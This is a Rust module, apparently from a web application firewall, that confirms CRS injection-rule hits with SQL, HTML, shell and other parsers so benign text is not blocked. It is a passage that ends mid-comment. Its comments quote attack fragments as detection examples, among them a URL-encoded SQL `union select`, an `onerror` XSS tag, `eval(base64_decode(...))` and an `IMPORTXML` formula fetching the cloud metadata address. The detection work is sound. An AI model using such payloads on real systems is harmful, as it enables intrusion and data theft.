//! Semantic confirmation: a pattern hit of an injection family scores in full only when a parser of that
//! family's language finds an injection in the value.
//!
//! CRS's regexes look for the words and punctuation of attacks, and ordinary text has them too: a review with
//! an apostrophe and the word "select", a forum post that shows a shell command, JSON carried inside a JSON
//! string. ModSecurity scores every such hit, which is why it refuses about one legitimate request in seven on
//! real traffic. Here a rule of the SQL injection, XSS and command execution families (by its `attack-*` tag,
//! or its `confirm:` field) hands the value it matched to the parser of its language:
//!
//! - [`sql`]: libinjection's SQL tokenizer and fingerprints, which read the value as the rest of a query after
//!   the point where it is inserted (as is, after a single quote, after a double quote); a JSON document sent
//!   where a value is expected with a MongoDB operator among its members is NoSQL injection;
//! - [`xss`]: libinjection's HTML5 tokenizer, in each context a value can land in (text, attribute values);
//! - [`shell`]: a small command-line lexer: a known command in command position (after `;`, `|`, `&`, a
//!   newline, inside `$(...)` or backquotes, or heading the value) with arguments shaped as a command's;
//! - [`name`]: where a name stands (inside a longer name, ending a longer file name, after other words, in a
//!   URL's host), and a path climbing three directories or more, which is a traversal even in a line of text;
//! - [`macros`]: `${NAME}` placeholders in a URL passed on for a redirect (an ad exchange's user sync);
//! - [`sparql`], [`promql`]: a whole SPARQL or PromQL query in a parameter named for a query is the API's
//!   language;
//! - [`graphql`]: a GraphQL document (the query a single-page app posts) is judged by its string values;
//! - [`credentials`]: an `Authorization` header's parameters (Digest, OAuth 1.0, Hawk) are judged one by one;
//! - [`csv`], [`hl7`]: a body that is a CSV, semicolon- or tab-separated document, or an HL7 v2 message, is
//!   judged field by field;
//! - [`markdown`]: Markdown a field says it holds shows its code blocks and spans as text;
//! - [`json`]: a JSON document carried in a field (a cookie, a form field) is judged by its strings;
//! - [`message`]: HTTP request smuggling and response splitting: a request or status line, header lines or
//!   a forged page where a line starts.
//!
//! Each reads the value as received and its decoded forms (URL, HTML entity and JavaScript escapes undone,
//! repeatedly, as an application or a browser may), plus the form the rule's own transforms made. A hit no
//! parser confirms stays in the verdict, marked unconfirmed, and adds nothing to the anomaly score: logged,
//! shown by `rulec explain`, never blocking on its own. The parsers run only on values a pattern already hit, so
//! a clean request pays nothing.

mod credentials;
mod csv;
mod decode;
mod escape;
mod fixation;
mod graphql;
mod hl7;
mod jql;
mod json;
mod lookup;
mod macros;
mod markdown;
mod message;
mod name;
mod notebook;
mod promql;
mod redirect;
mod report;
mod shape;
pub use shape::{Shape, is_json_document};
mod shell;
mod sparql;
mod sql;
mod tex;
mod xss;

use crate::rule::{Confirm, Transform};
use crate::transform::{UnicodeMap, apply};
use std::borrow::Cow;
use std::ops::Range;

/// What a rule's operator found: the bytes of the transformed value, and whether a phrase (`pm`) found them,
/// whose end is a word's end (a regex's hit may end wherever its pattern stops looking).
#[derive(Debug, Clone, Default)]
pub struct Hit {
    pub span: Range<usize>,
    pub phrase: bool,
}

/// What a confirmer said of a hit.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Confirmation {
    pub confirmed: bool,
    /// Why, for logs and `rulec explain`: what the parser found (a fingerprint, a tag, a command), or what it
    /// looked for and did not find.
    pub reason: String,
}

/// What a confirmer may know of the request beyond the value: its method, target and headers (session fixation
/// reads `Sec-Fetch-Mode` and `Origin`, a batch its content type), the name the value came under (a parameter's, a header's; empty for a whole body),
/// whether it is a cookie's, whether it is an argument's name (`ARGS_NAMES`, `ARGS_POST_NAMES`...), when it
/// is an argument's name, that argument's value, and whether the value is the whole body (`REQUEST_BODY`).
#[derive(Debug, Clone, Copy, Default)]
pub struct Request<'a> {
    pub method: &'a str,
    pub target: &'a str,
    pub headers: &'a [(&'a str, &'a [u8])],
    pub name: &'a [u8],
    pub cookie: bool,
    pub is_argument_name: bool,
    pub named_value: Option<&'a [u8]>,
    pub whole_body: bool,
}

impl Request<'_> {
    /// The name a value is read under: its parameter's, or, for a body sent as it is (no parameter's: a raw body
    /// as `ARGS_POST`, or `REQUEST_BODY`), the last segment of the request's path, which names what the body is
    /// (QuickBooks Online's `/v3/company/<id>/query` takes its query as the body).
    fn value_name(&self) -> &[u8] {
        if !self.name.is_empty() || self.cookie || self.is_argument_name {
            return self.name;
        }
        self.path()
            .trim_end_matches('/')
            .rsplit('/')
            .next()
            .unwrap_or_default()
            .as_bytes()
    }

    /// The request's path, its query string aside.
    fn path(&self) -> &str {
        self.target.split('?').next().unwrap_or_default()
    }

    /// The value of the request's header `name` (the first one sent).
    fn header(&self, name: &str) -> Option<&[u8]> {
        self.headers
            .iter()
            .find(|(header, _)| header.eq_ignore_ascii_case(name))
            .map(|&(_, value)| value)
    }

    /// The host the request is sent to (its `Host` header), empty when it has none.
    fn site(&self) -> &[u8] {
        self.header("host").unwrap_or_default()
    }
}

/// Runs the `confirm` parser on the value a rule matched: `raw` as the request carried it, `transformed` after the
/// rule's transforms, `hit` what the rule's operator found in `transformed`.
pub fn confirm(
    confirm: Confirm,
    raw: &[u8],
    transformed: &[u8],
    hit: Hit,
    map: UnicodeMap,
    request: Request<'_>,
) -> Confirmation {
    // Markdown's code, shown as text, is blanked: what is left is read as the page shows it, as HTML is.
    let prose = (confirm == Confirm::Xss && !request.cookie)
        .then(|| markdown::without_code(request.name, raw))
        .flatten();
    let unquoted = if request.cookie {
        unquoted(raw)
    } else if let Some(text) = json::string_document(raw) {
        Cow::Owned(text.into_bytes())
    } else if let Some(prose) = &prose {
        Cow::Borrowed(prose.as_slice())
    } else {
        Cow::Borrowed(raw)
    };
    let raw = unquoted.as_ref();
    // The value's decoded forms, read by several of the judgements below: decoded once.
    let decoded = decode::forms(raw, map);
    if let Some(reason) = refuted_by_its_place(confirm, raw, transformed, &hit, &decoded, request) {
        return Confirmation {
            confirmed: false,
            reason,
        };
    }
    if let Some(judged) = judged_alone(confirm, raw, transformed, &hit, &decoded, map, request) {
        return judged;
    }
    if let Some(reason) = operator_member(confirm, transformed, &hit, &decoded, request) {
        return Confirmation {
            confirmed: true,
            reason,
        };
    }
    if let Some(judged) = in_document_strings(confirm, raw, map, request) {
        return judged;
    }
    // Code of no parser here (file inclusion, SSRF, PHP) is written as a name or a URL: those score as written,
    // as do a formula's (`=IMPORTXML("http://169.254.169.254/")` fetches a URL through the spreadsheet).
    // A generated secret is told from an injection by SQL's and the shell's parsers only: a path, a URL or a
    // script in a password field scores as written.
    let Some(shape) = value_shape(raw, map, request)
        .or_else(|| query_for_markup(confirm, &decoded, request))
        .or_else(|| html_by_name(confirm, raw, request))
        .filter(|&shape| match confirm {
            // A search's terms may name a file (`etc/passwd OR shadow`): the file rules score one as written.
            Confirm::Code => {
                let as_written = matches!(
                    shape,
                    Shape::Token | Shape::Url | Shape::Secret | Shape::Formula | Shape::Math
                ) || (shape == Shape::Expression && shape::is_boolean_search(raw));
                !as_written
            }
            Confirm::Xss => shape != Shape::Secret,
            _ => true,
        })
    else {
        return as_fragment(confirm, transformed, &hit, &decoded, map, request);
    };
    // HTML is read as a browser reads it: its character references are text. A rich-text editor escapes the
    // markup a user types as text (a post showing `&lt;img onerror=...&gt;` inside `<code>`), and decoding them
    // would turn the example into the markup it shows. A document of several lines written in HTML (a block
    // editor's post, one block a line) is such HTML too.
    let html = shape == Shape::Markup || (shape == Shape::Document && shape::is_markup(raw));
    let mut forms = if (html || prose.is_some()) && confirm == Confirm::Xss {
        vec![Cow::Borrowed(raw)]
    } else {
        with_transformed(decoded, raw, transformed, map, request)
    };
    if shape == Shape::Expression {
        for form in &mut forms {
            if let Some(syntax) = sql::odata_syntax(form) {
                *form = Cow::Owned(syntax);
            }
        }
    }
    let site = request.site();
    if shape == Shape::Pairs {
        return pairs(
            confirm,
            &forms,
            transformed.get(hit.span.clone()),
            map,
            site,
        );
    }
    match forms
        .iter()
        .find_map(|form| parse(confirm, form, shape, map, site))
    {
        Some(reason) => Confirmation {
            confirmed: true,
            reason,
        },
        None => Confirmation {
            confirmed: false,
            reason: format!("{}, and {}", shape.describe(), not_found(confirm)),
        },
    }
}

/// A cookie's value without the double quotes RFC 6265 lets it be sent in (`FUN="{'search':[...]}"`), which
/// cookie parsers take off (Go's, Python's, Java's): the value the application reads. Python's `http.cookies`
/// (Django, Flask, aiohttp) writes a value with quotes or commas in as RFC 2109's quoted string, a quote or a
/// backslash escaped by a backslash and other characters as three octal digits (`"{\"size\": \"50\"\054 ...}"`),
/// and reads it back so: the value is the one unescaped.
fn unquoted(raw: &[u8]) -> Cow<'_, [u8]> {
    let Some(inner) = raw
        .strip_prefix(b"\"")
        .and_then(|inner| inner.strip_suffix(b"\""))
    else {
        return Cow::Borrowed(raw);
    };
    if !inner.contains(&b'\\') {
        return Cow::Borrowed(if inner.contains(&b'"') { raw } else { inner });
    }
    let mut value = Vec::with_capacity(inner.len());
    let mut i = 0;
    while i < inner.len() {
        match inner[i] {
            b'\\' => {
                let octal = inner.get(i + 1..i + 4).filter(|digits| {
                    (b'0'..=b'3').contains(&digits[0])
                        && digits.iter().all(|d| (b'0'..=b'7').contains(d))
                });
                if let Some(digits) = octal {
                    value.push(digits.iter().fold(0u8, |byte, d| (byte << 3) | (d - b'0')));
                    i += 4;
                } else if let Some(&escaped) = inner.get(i + 1) {
                    value.push(escaped);
                    i += 2;
                } else {
                    return Cow::Borrowed(raw);
                }
            }
            // A quote not escaped ends the quoted string before the value does: not one quoted string.
            b'"' => return Cow::Borrowed(raw),
            byte => {
                value.push(byte);
                i += 1;
            }
        }
    }
    Cow::Owned(value)
}

/// Why the hit is no injection whatever the value's shape: where it stands in the value (inside a longer name),
/// or where the value is sent (a loopback redirect, a query language's field).
fn refuted_by_its_place(
    confirm: Confirm,
    raw: &[u8],
    transformed: &[u8],
    hit: &Hit,
    decoded: &[Cow<'_, [u8]>],
    request: Request<'_>,
) -> Option<String> {
    let matched = transformed.get(hit.span.clone()).unwrap_or_default();
    match confirm {
        // A shell word is as long as its name characters run: `$PATH` is not in `$pathname`, `bin/ar` not in
        // `bin/archive`. Whatever the value's shape, such a phrase names another variable or file. (A regex's hit
        // may end anywhere its pattern stops looking, so only a phrase's end says where a name ends.)
        Confirm::Shell => hit
            .phrase
            .then(|| name::inside_longer_name(transformed, hit.span.clone()))
            .flatten()
            .or_else(|| name::starts_inside_word(transformed, hit.span.clone()))
            .or_else(|| name::part_of_relative_name(raw, transformed, hit.span.clone()))
            .or_else(|| shell::jquery_call(transformed, hit.span.clone()))
            .or_else(|| shell::runtime_in_user_agent(request.name, transformed, hit.span.clone()))
            .or_else(|| shell::tilde_inside_word(transformed, hit.span.clone()))
            .or_else(|| shell::inert_braces(transformed, hit.span.clone()))
            .or_else(|| shell::no_bracket_expression(transformed, hit.span.clone()))
            .or_else(|| name::within_host(transformed, hit.span.clone()))
            .or_else(|| in_every_form(decoded, |form| macros::placeholders(matched, form)))
            .or_else(|| in_every_form(decoded, |form| sparql::whole_query(request.name, form)))
            .or_else(|| {
                message::batch_request_line(request.target, request.headers, transformed, hit.span.clone())
            }),
        Confirm::Code => hit
            .phrase
            .then(|| {
                name::inside_identifier(transformed, hit.span.clone())
                    .or_else(|| name::dotted_name_part(transformed, hit.span.clone()))
                    .or_else(|| name::longer_file_name(transformed, hit.span.clone()))
                    .or_else(|| name::file_name_after_words(transformed, hit.span.clone()))
                    .or_else(|| name::in_url_host(transformed, hit.span.clone()))
                    .or_else(|| name::git_endpoint(request.target, transformed, hit.span.clone()))
            })
            .flatten()
            .or_else(|| redirect::client_address(request.name, raw))
            .or_else(|| redirect::cors_origin(request.name, raw))
            .or_else(|| in_every_form(decoded, |form| macros::placeholders(matched, form)))
            .or_else(|| macros::template_references(matched, transformed)),
        Confirm::Sql => sql::query_language(raw)
            .or_else(|| sql::operator_as_string(raw, matched, request.name))
            .or_else(|| sql::update_member(raw, matched))
            .or_else(|| sql::type_tag(raw, matched, request.named_value))
            .or_else(|| sql::soql_clause(raw, matched, request.named_value))
            // A name is no query its parameter holds.
            .or_else(|| {
                (!request.is_argument_name)
                    .then(|| whole_query(decoded, request.value_name()))
                    .flatten()
            })
            .or_else(|| in_every_form(decoded, |form| sparql::whole_query(request.name, form)))
            .or_else(|| in_every_form(decoded, sql::glued_comment))
            .or_else(|| in_every_form(decoded, sql::statement_that_does_not_parse))
            .or_else(|| in_every_form(decoded, sql::percent_signs))
            .or_else(|| in_every_form(decoded, sql::path_wildcards))
            .or_else(|| sql::us_privacy_string(request.name, raw))
            .or_else(|| name::within_host(transformed, hit.span.clone()))
            .or_else(|| name::host_and_port(raw))
            .or_else(|| {
                shape::is_quoted_media_type(raw).then(|| {
                    "a media type whose parameter is quoted as RFC 9110 quotes one (a multipart boundary): its quotes close nothing else"
                        .to_owned()
                })
            }),
        Confirm::Xss => xss::declaration_head(raw)
            .or_else(|| xss::inert_script_url(raw))
            .or_else(|| name::file_extension(transformed, hit.span.clone())),
        Confirm::Lookup => lookup::unresolved(transformed, hit.span.clone())
            .or_else(|| lookup::inside_longer_class(transformed, hit.span.clone()))
            .or_else(|| {
            (request.is_argument_name || request.name.is_empty())
                .then(|| {
                    lookup::package_path_name(
                        transformed,
                        hit.span.clone(),
                        request.is_argument_name,
                    )
                })
                .flatten()
                .or_else(|| lookup::reported_class(matched, report::is_code_sample(request)))
                .or_else(|| {
                    (request.whole_body
                        && (shape::is_json_document(raw) || shape::is_json_sequence(raw)))
                    .then(|| {
                        "the body is JSON, whose names and values the rule reads one by one: what it found across them is in none"
                            .to_owned()
                    })
                })
        }),
        Confirm::Fixation | Confirm::Message | Confirm::Escape | Confirm::None => None,
    }
}

/// The reason `judge` gives for the first of the value's `decoded` forms, when it gives one for each of them: an
/// application that decodes the value once more reads the decoded form, so a refutation must hold there too (a
/// payload URL-encoded twice is a whole query of `%` operators as written: `1%20union%20select...` is MySQL's
/// `1 % 20union % 20select...`).
fn in_every_form(
    decoded: &[Cow<'_, [u8]>],
    judge: impl Fn(&[u8]) -> Option<String>,
) -> Option<String> {
    let (first, rest) = decoded.split_first()?;
    let reason = judge(first)?;
    rest.iter()
        .all(|form| judge(form).is_some())
        .then_some(reason)
}

/// Why the value is a whole query of an API's language (JQL's, [`jql::whole_query`]; SQL's, [`sql::whole_query`])
/// in every `decoded` form but those that only undo the backslashes before its quotes: the language's own
/// escapes inside its string literals (JQL's `text ~ "\"SSO / SAML\""`, SOQL's `Name = 'D\'Andre'`), which the
/// API reads there. Decoded as a whole, a literal's quotes would end it early, which no reader of the query does.
/// A decoding that leaves bytes of no character (`LIKE '%ADU%'` URL-decoded again makes `%AD` the byte 0xAD) is
/// read with each such byte a character of its own, as the language's string literal would hold it.
fn whole_query(decoded: &[Cow<'_, [u8]>], name: &[u8]) -> Option<String> {
    let (first, rest) = decoded.split_first()?;
    let reason = query_of_api(name, first)?;
    rest.iter()
        .all(|form| {
            let text = String::from_utf8_lossy(form);
            query_of_api(name, text.as_bytes()).is_some() || only_quotes_unescaped(first, form)
        })
        .then_some(reason)
}

/// Whether a text parses as a whole query of a language, from end to end.
type QueryParser = fn(&str) -> bool;

/// Why `value`, sent as `name`, is a whole query of an API's language: under a parameter named for a query
/// ([`sql::is_query_parameter`]), JQL's ([`jql::is_query`]) or PromQL's ([`promql::is_query`]) from end to end,
/// or SQL's ([`sql::whole_query`]), as written.
fn query_of_api(name: &[u8], value: &[u8]) -> Option<String> {
    let languages: [(&str, QueryParser); 2] =
        [("JQL", jql::is_query), ("PromQL", promql::is_query)];
    let text = std::str::from_utf8(value).ok();
    text.filter(|_| sql::is_query_parameter(name))
        .and_then(|text| {
            languages
                .iter()
                .find(|(_, parses)| parses(text))
                .map(|(language, _)| {
                    format!(
                        "`{}` holds a whole query of the API's language ({language} reads it), not a value breaking out of one",
                        String::from_utf8_lossy(name)
                    )
                })
        })
        .or_else(|| sql::whole_query(name, value))
}

/// Whether `decoded` is `raw` with each backslash before a quote or a backslash taken off, and nothing else
/// changed.
fn only_quotes_unescaped(raw: &[u8], decoded: &[u8]) -> bool {
    let mut unescaped = Vec::with_capacity(raw.len());
    let mut bytes = raw.iter();
    while let Some(&byte) = bytes.next() {
        if byte == b'\\' {
            match bytes.next() {
                Some(&next @ (b'"' | b'\'' | b'\\')) => unescaped.push(next),
                _ => return false,
            }
        } else {
            unescaped.push(byte);
        }
    }
    unescaped == decoded
}

/// Why a MongoDB operator the SQL family's pattern hit is a member of a JSON document in one of the value's
/// `decoded` forms ([`sql::operator_member`]; a cookie carries its JSON URL-encoded).
fn operator_member(
    confirm: Confirm,
    transformed: &[u8],
    hit: &Hit,
    decoded: &[Cow<'_, [u8]>],
    request: Request<'_>,
) -> Option<String> {
    // A query an error report or a telemetry export quotes is one the program ran (an OTLP span's MongoDB
    // statement), not one a client sends.
    if confirm != Confirm::Sql || report::is_code_sample(request) {
        return None;
    }
    let matched = transformed.get(hit.span.clone()).unwrap_or_default();
    decoded
        .iter()
        .find_map(|form| sql::operator_member(form, matched, request.name))
}

/// The judgement of the confirmers that read the value whole, whatever its shape: session fixation, escapes
/// of letters, messages.
fn judged_alone(
    confirm: Confirm,
    raw: &[u8],
    transformed: &[u8],
    hit: &Hit,
    decoded: &[Cow<'_, [u8]>],
    map: UnicodeMap,
    request: Request<'_>,
) -> Option<Confirmation> {
    match confirm {
        Confirm::Fixation => Some(fixation::vector(raw, request.method, request.headers)),
        // What refuted_by_its_place left is a lookup Log4j resolves, or a class name.
        Confirm::Lookup => Some(Confirmation {
            confirmed: true,
            reason: "a lookup or a class Log4j and Java resolve: scored as the pattern says"
                .to_owned(),
        }),
        Confirm::Escape => Some(match escape::letters_only(raw, map) {
            Some(reason) => Confirmation {
                confirmed: false,
                reason,
            },
            None => Confirmation {
                confirmed: true,
                reason: "not escapes of letters alone: scored as the pattern says".to_owned(),
            },
        }),
        Confirm::Message => Some(match message::batch(request.target, request.headers, raw) {
            Some(reason) => Confirmation {
                confirmed: false,
                reason,
            },
            None => {
                let matched = transformed.get(hit.span.clone()).unwrap_or_default();
                // A JSON document's lines are its strings' (`"a\nb"`): decoded as a whole, the document's own
                // quotes and braces would join the end of one string to the start of the next as one line
                // (`https://x"}},{"ct":"text/html","content":"<html>`, a mail's text part, then its HTML part).
                let forms = match json::strings(raw).filter(|_| shape::is_json_document(raw)) {
                    Some(strings) => strings
                        .iter()
                        .flat_map(|string| decode::forms(string.as_bytes(), map))
                        .map(|form| Cow::Owned(form.into_owned()))
                        .collect(),
                    None => with_transformed(decoded.to_vec(), raw, transformed, map, request),
                };
                message::judge(raw, &forms, matched)
            }
        }),
        _ => None,
    }
}

/// A document whose syntax is the client's and whose strings are what a user or a generator put there, its
/// `kind` named in the reason: confirmed when one of its strings is an injection, else refuted. A language with
/// a parser reads each string as data ([`in_string`]): the pattern may have hit the document's syntax (`{ node {`
/// read as a command after a brace), so a string of no shape elsewhere in it is no evidence.
fn in_strings_of<'s>(
    kind: &str,
    strings: impl IntoIterator<Item = &'s [u8]>,
    confirm: Confirm,
    map: UnicodeMap,
    request: Request<'_>,
) -> Confirmation {
    let site = request.site();
    let found = strings.into_iter().find_map(|string| match confirm {
        Confirm::Sql | Confirm::Xss | Confirm::Shell => in_string(confirm, string, map, site),
        _ => {
            let judged = self::confirm(confirm, string, string, Hit::default(), map, request);
            judged.confirmed.then_some(judged.reason)
        }
    });
    match found {
        Some(reason) => Confirmation {
            confirmed: true,
            reason: format!("in a string of {kind}: {reason}"),
        },
        None => Confirmation {
            confirmed: false,
            reason: format!("{kind}, and none of its strings holds an injection"),
        },
    }
}

/// A GraphQL document (the query a single-page app posts), credentials written as a scheme's parameters
/// ([`credentials`]), an HL7 v2 message ([`hl7`]) or a body that is a delimited document ([`csv`]), judged by
/// their strings
/// ([`in_strings_of`]). None when `raw` is none of them.
fn in_document_strings(
    confirm: Confirm,
    raw: &[u8],
    map: UnicodeMap,
    request: Request<'_>,
) -> Option<Confirmation> {
    let (kind, strings): (&str, Vec<Cow<'_, [u8]>>) = if let Some(strings) = graphql::strings(raw) {
        let strings = strings
            .into_iter()
            .map(|string| Cow::Owned(string.into_bytes()));
        ("a GraphQL document", strings.collect())
    } else if let Some(values) = credentials::is_authorization(request.name)
        .then(|| credentials::parameters(raw))
        .flatten()
    {
        ("credentials' parameters", values)
    } else if let Some(components) = hl7::components(raw) {
        (
            "an HL7 v2 message",
            components.into_iter().map(Cow::Owned).collect(),
        )
    } else if let Some(fields) = request.name.is_empty().then(|| csv::fields(raw)).flatten() {
        // A body of no other shape: a CSV or TSV file posted as the body, which no form parser splits.
        ("a delimited document", fields)
    } else {
        return None;
    };
    let strings = strings.iter().map(|string| string.as_ref());
    Some(in_strings_of(kind, strings, confirm, map, request))
}

/// The shape of data `raw` has, if any. Only data needs a parser's word; a fragment of no other shape scores as
/// its pattern says. The shape is the value's as the application receives it: decoding it further is a guess,
/// which finds injections, not data. Some values are data by the field they are sent in, whatever their bytes
/// look like.
fn value_shape(raw: &[u8], map: UnicodeMap, request: Request<'_>) -> Option<Shape> {
    if report::is_code_sample(request) || notebook::is_cell_content(request.name) {
        Some(Shape::Sample)
    } else if (is_password_field(request.name) && shape::is_secret(raw) && !sql::spells_a_word(raw))
        || (request.is_argument_name && shape::is_generated_key_path(raw))
        || (shape::is_generated_key_path(request.name) && shape::is_secret(raw))
    {
        Some(Shape::Secret)
    } else if (sql::is_odata_expression(request.name) && sql::odata_syntax(raw).is_some())
        || (name::last_part(request.name).eq_ignore_ascii_case(b"fields")
            && shape::is_field_selection(raw))
    {
        Some(Shape::Expression)
    } else if name::says_url(request.name) && shape::is_url_or_path(raw, true) {
        // A path of the site alone is a URL where the parameter's name says it holds one.
        Some(Shape::Url)
    } else if request.cookie && raw.contains(&b'%') {
        // Applications read a cookie's value URL-decoded (PHP, Rails, Express's cookie parser): a consent or
        // cart cookie is a JSON document once decoded, and that is its shape.
        shape::data_shape(&apply(Transform::UrlDecode, raw, map))
    } else {
        shape::data_shape(raw)
    }
}

/// A whole query of the API's language (JQL, CQL, SOQL) in every `decoded` form, for the XSS parser: the
/// query is data to it, which judges what its literals hold (`duedate <= 7d` is no tag). Code, commands and
/// SQL are judged as they are (`eval(base64_decode(...))` parses as a condition too).
/// A value with a tag in it under a name that says it is HTML (`html`, `headHtml`, `body_html`) is markup the
/// application renders by design: the XSS family judges it by what runs in it, an element alone too (a page
/// builder's head code, `<link rel="preconnect" href="https://fonts.googleapis.com">`), as a page of markup is.
fn html_by_name(confirm: Confirm, raw: &[u8], request: Request<'_>) -> Option<Shape> {
    (confirm == Confirm::Xss && raw.contains(&b'<') && name::says_html(request.name))
        .then_some(Shape::Markup)
}

fn query_for_markup(
    confirm: Confirm,
    decoded: &[Cow<'_, [u8]>],
    request: Request<'_>,
) -> Option<Shape> {
    (confirm == Confirm::Xss && whole_query(decoded, request.name).is_some())
        .then_some(Shape::Expression)
}

/// Whether the parameter `name` holds a password, as sign-in, sign-up and settings forms name it: its last part
/// (after a JSON member path's `.` or a form's `[`), lower-cased, without the numbers and the words that tell one
/// password field of a form from another after it (Django's `password1`, Laravel's `password_confirmation`,
/// Keycloak's `password-new` and `password-confirm`, WordPress's `pass1-text`), ends with `password`, `passwd`
/// or `passphrase` (`newPassword`, `user_password`), or is `pwd`, `pass` or `pw`, alone or after `_`
/// (WordPress's `pwd`).
fn is_password_field(name: &[u8]) -> bool {
    /// Words after a password's name that say which of a form's password fields this is.
    const QUALIFIERS: [&[u8]; 8] = [
        b"confirmation",
        b"confirm",
        b"repeat",
        b"again",
        b"new",
        b"old",
        b"current",
        b"text",
    ];
    let last = name::last_part(name).to_ascii_lowercase();
    let mut base = last.as_slice();
    loop {
        let unnumbered = base.len() - base.iter().rev().take_while(|b| b.is_ascii_digit()).count();
        let stripped = QUALIFIERS
            .iter()
            .find_map(|word| base[..unnumbered].strip_suffix(*word))
            .map_or(&base[..unnumbered], |rest| {
                rest.strip_suffix(b"_")
                    .or_else(|| rest.strip_suffix(b"-"))
                    .unwrap_or(rest)
            });
        if stripped.len() == base.len() || stripped.is_empty() {
            break;
        }
        base = stripped;
    }
    [b"password".as_slice(), b"passwd", b"passphrase"]
        .iter()
        .any(|word| base.ends_with(word))
        || [b"pwd".as_slice(), b"pass", b"pw"]
            .iter()
            .any(|word| name::ends_with_name(base, word, b"_"))
}

/// What the parser of `confirm`'s language finds in `form`, data of `shape` sent to `site` (where markup's
/// `<base>` may point).
fn parse(
    confirm: Confirm,
    form: &[u8],
    shape: Shape,
    map: UnicodeMap,
    site: &[u8],
) -> Option<String> {
    match confirm {
        // The code a report quotes is what the reporting page or program ran, data to the service that stores
        // it: only markup that would run where the report is shown counts there.
        Confirm::Sql | Confirm::Shell if shape == Shape::Sample => None,
        Confirm::Sql | Confirm::Xss | Confirm::Shell if shape == Shape::Json => {
            in_json_strings(confirm, form, map, site)
        }
        Confirm::Sql => sql::injection(form, shape),
        Confirm::Xss => xss::injection(form, site),
        Confirm::Shell => shell::injection(form, shape == Shape::Text),
        Confirm::Code if shape == Shape::Text => name::traversal(form),
        Confirm::Code
        | Confirm::Fixation
        | Confirm::Message
        | Confirm::Escape
        | Confirm::Lookup
        | Confirm::None => None,
    }
}

/// What the parser of `confirm`'s language finds in the strings (names and values) of the JSON document
/// `form`, each read as data of its own shape and in its decoded forms, a string of no shape as a plain value
/// (the parser, not its length, decides): the application parses the document and uses its strings, and the
/// document's quotes and brackets are JSON's syntax, not an injection's. None when `form` is no JSON document.
fn in_json_strings(confirm: Confirm, form: &[u8], map: UnicodeMap, site: &[u8]) -> Option<String> {
    json::strings(form)?
        .iter()
        .find_map(|string| in_string(confirm, string.as_bytes(), map, site))
        .map(|reason| format!("in a string of the JSON document: {reason}"))
}

/// What the parser of `confirm`'s language finds in `string`, a string of a document (JSON, GraphQL), read as
/// data of its own shape, one of no shape as a plain value, in each of its decoded forms.
fn in_string(confirm: Confirm, string: &[u8], map: UnicodeMap, site: &[u8]) -> Option<String> {
    let shape = shape::data_shape(string).unwrap_or(Shape::Token);
    decode::forms(string, map)
        .iter()
        .find_map(|form| parse(confirm, form, shape, map, site))
}

/// What the parser of `confirm`'s language looked for and did not find.
fn not_found(confirm: Confirm) -> &'static str {
    match confirm {
        Confirm::Sql => {
            "no SQL injection fingerprint in any quote context, or none that parses as one"
        }
        Confirm::Xss => "no script, event handler or scripting URL in any HTML context",
        Confirm::Shell => "no command line where an argument can end",
        Confirm::Code
        | Confirm::Fixation
        | Confirm::Message
        | Confirm::Escape
        | Confirm::Lookup
        | Confirm::None => "no parser of the language to find code there",
    }
}

/// A query string in a value is judged by its values, each as the application that splits it reads it: its
/// `=` and `&` are its own syntax, not an assignment's or a command's (`kw=script font` is a keyword, not
/// `script` after `=`). A value that is a fragment still scores as written, unless the pattern's `hit` was on
/// the query string's own `=` or `&`.
fn pairs(
    confirm: Confirm,
    forms: &[Cow<'_, [u8]>],
    hit: Option<&[u8]>,
    map: UnicodeMap,
    site: &[u8],
) -> Confirmation {
    // Each value as the application reads it: the query string is split, then each value URL-decoded. A whole
    // query of the API's language under a name for one is the query the page was asked for (a Jira issue list's
    // address, `/issues/?jql=...`, in the next request's Referer), judged as such a parameter is
    // ([`whole_query`]): a value of that name that is one in its form, or one's with only its literals' escaped
    // quotes undone, is the query.
    let pairs: Vec<(Vec<u8>, Vec<u8>, bool)> = forms
        .iter()
        .flat_map(|form| shape::pairs(form))
        .map(|(name, value)| {
            let value = apply(Transform::UrlDecode, value, map);
            let query = query_of_api(name, &value).is_some();
            (name.to_vec(), value, query)
        })
        .collect();
    let values: Vec<(Vec<u8>, Option<Shape>)> = pairs
        .iter()
        .filter(|(name, value, query)| {
            !pairs.iter().any(|(query_name, the_query, is_one)| {
                *is_one && query_name == name && (*query || only_quotes_unescaped(the_query, value))
            })
        })
        .map(|(_, value, _)| (value.clone(), shape::data_shape(value)))
        .collect();
    if let Some(reason) = values
        .iter()
        .find_map(|(value, shape)| parse(confirm, value, shape.unwrap_or(Shape::Token), map, site))
    {
        return Confirmation {
            confirmed: true,
            reason: format!("in a value of a query string: {reason}"),
        };
    }
    // A hit that is a pair's name, one the API's query language gives its options (OData's `$filter` in an
    // Azure batch's `url`), is that language's, as such a parameter of the request itself is.
    if confirm == Confirm::Sql
        && let Some(hit) = hit
        && let Some(reason) = pairs
            .iter()
            .filter(|(name, _, _)| name.eq_ignore_ascii_case(hit))
            .find_map(|(name, _, _)| sql::query_language(name))
    {
        return Confirmation {
            confirmed: false,
            reason: format!("in a name of a query string: {reason}"),
        };
    }
    // A hit that starts or ends on the query string's syntax, or runs across a pair's end into the next pair,
    // is in no one value the application reads.
    let on_syntax = hit.is_some_and(|hit| {
        [hit.first(), hit.last()]
            .into_iter()
            .flatten()
            .any(|b| matches!(b, b'=' | b'&'))
            || hit.contains(&b'&')
    });
    // The hit counts as a fragment's in a value of no shape: one holding it where the values hold it as matched
    // (a hit of a value with a shape was judged by its parser above), any such value where none does.
    let holds = |value: &[u8]| hit.is_some_and(|hit| holds_ignoring_case(value, hit));
    let shapeless = |value: &[u8], shape: &Option<Shape>| {
        shape.is_none() && (holds(value) || !values.iter().any(|(value, _)| holds(value)))
    };
    if !on_syntax && values.iter().any(|(value, shape)| shapeless(value, shape)) {
        return Confirmation {
            confirmed: true,
            reason: format!("{FRAGMENT} (in a query string)"),
        };
    }
    Confirmation {
        confirmed: false,
        reason: format!(
            "{}, and {} in any of its values",
            Shape::Pairs.describe(),
            not_found(confirm)
        ),
    }
}

/// Whether `value` holds `part` (not empty), ASCII letters in either case.
fn holds_ignoring_case(value: &[u8], part: &[u8]) -> bool {
    !part.is_empty()
        && value
            .windows(part.len())
            .any(|window| window.eq_ignore_ascii_case(part))
}

/// Why a hit in a value of no data shape counts.
const FRAGMENT: &str = "a fragment, not data: scored as the pattern says";

/// A hit in a value of no data shape scores as the pattern says, unless the rule's Unicode decoding made up the
